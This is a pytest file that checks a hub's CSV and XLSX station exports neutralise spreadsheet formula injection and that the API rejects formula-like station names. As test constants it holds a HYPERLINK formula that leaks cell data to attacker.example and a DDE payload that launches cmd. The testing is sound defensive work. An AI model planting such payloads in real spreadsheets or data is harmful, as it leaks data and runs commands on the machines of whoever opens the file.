"""Text a spreadsheet would run as a formula reaches the hub's own CSV and XLSX exports
neutralised, on a real hub: a station name registered by the operator's command line (which
checks none). A station reporting a name that starts like a formula is refused, blanks around it
or not (the hub shows names trimmed)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator

import openpyxl
import pytest

from tests.helpers.hub import HubHandle, running_hub
from tests.hub.conftest import StationClient, fetch_token
from tests.hub.test_stats import hub_cli
from tests.hub.web.web_client import Dashboard

UNIT = "000.00.14.H05"
REGISTERED = '=HYPERLINK("http://attacker.example/?leak="&A1,"Xem")'
REPORTED = "+cmd|' /C calc'!A0"
NEUTRALISED = {"ST-CLI": "'" + REGISTERED, "ST-FACTS": "Quầy 2"}


@pytest.fixture
def hub(tmp_path) -> Iterator[HubHandle]:
    with running_hub(tmp_path / "hub") as handle:
        yield handle


def _register(hub: HubHandle, client_id: str, name: str) -> str:
    printed = hub_cli(
        hub, "add-station", "--client-id", client_id, "--name", name, "--unit", UNIT, "--json"
    )
    return json.loads(printed)["client_secret"]


def _stations_export(hub: HubHandle, fmt: str) -> bytes:
    supervisor = Dashboard(hub.url)
    assert (
        supervisor.log_in("tinh", hub.add_account("tinh", "province_supervisor")).status_code == 303
    )
    response = supervisor.get(f"/stations.{fmt}")
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"].startswith("attachment;")
    return response.content


@pytest.fixture
def named(hub: HubHandle) -> HubHandle:
    _register(hub, "ST-CLI", REGISTERED)
    secret = _register(hub, "ST-FACTS", "Quầy 2")
    reporter = StationClient(hub, "ST-FACTS", secret, fetch_token(hub, "ST-FACTS", secret))
    facts = {"store_id": "store-2", "after": 0, "name": REPORTED, "events": []}
    body = {"station_id": "ST-FACTS", "at": "2026-12-01T08:00:00+07:00", "facts": facts}
    assert reporter.post("/api/v1/metrics", json=body).status_code == 422
    for hidden in (" " + REPORTED, "\u00a0" + REPORTED, REPORTED + " "):  # trimmed for display
        body["facts"] = {**facts, "name": hidden}
        assert reporter.post("/api/v1/metrics", json=body).status_code == 422, repr(hidden)
    body["facts"] = {**facts, "name": "Quầy 2"}
    assert reporter.post("/api/v1/metrics", json=body).status_code == 200
    return hub


def test_a_formula_in_a_station_name_is_text_in_the_csv_export(named) -> None:
    content = _stations_export(named, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content), delimiter=";"))
    names = {row[0]: row[1] for row in rows[2:]}
    assert names == NEUTRALISED
    assert not any(cell.startswith(("=", "+")) for row in rows for cell in row)


def test_a_formula_in_a_station_name_is_a_text_cell_in_the_xlsx_export(named) -> None:
    content = _stations_export(named, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = {row[0].value: row[1] for row in book.active.iter_rows(min_row=2)}
    assert {key: cell.value for key, cell in cells.items()} == NEUTRALISED
    assert all(cell.data_type == "s" for cell in cells.values())
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in package.read(n) for n in sheets)  # no formula
